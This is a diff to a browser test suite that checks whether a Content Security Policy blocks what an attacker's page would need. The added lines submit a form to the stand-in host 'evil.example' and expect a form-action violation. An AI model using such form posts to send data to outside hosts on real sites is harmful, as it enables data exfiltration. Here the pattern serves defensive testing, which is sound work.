@@ -72,6 +72,20 @@ test('the policy stops what a page of an attacker would need', async ({ host: { 
   for (const [what, element, directive] of forbidden) {
     expect.soft(await violation(page, element), what).toBe(directive);
   }
+  const sent = page.evaluate(() => {
+    const { promise, resolve } = Promise.withResolvers<string | undefined>();
+    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
+    setTimeout(() => resolve(undefined), 10_000);
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = 'https://evil.example/';
+    // A frame that is not there: the page stays even where it is sent.
+    form.target = 'elsewhere';
+    document.body.append(form);
+    form.submit();
+    return promise.finally(() => form.remove());
+  });
+  expect.soft(await sent, 'a form that is sent elsewhere').toBe('form-action');
   expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
 });
 
